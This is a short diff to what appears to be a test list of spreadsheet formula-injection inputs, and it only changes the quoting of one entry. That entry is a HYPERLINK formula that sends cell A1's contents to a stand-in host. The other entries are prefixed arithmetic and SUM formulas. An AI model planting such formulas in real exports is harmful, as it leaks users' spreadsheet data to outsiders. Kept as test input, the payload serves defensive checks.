@@ -65,7 +65,7 @@ SPREADSHEET = [
     "+1+1",
     "-1+1",
     "@SUM(A1:A9)",
-    "=HYPERLINK(\"http://example.com?\"&A1,\"x\")",
+    '=HYPERLINK("http://example.com?"&A1,"x")',
     "\t=1+1",
     "\r=1+1",
     "\n=1+1",
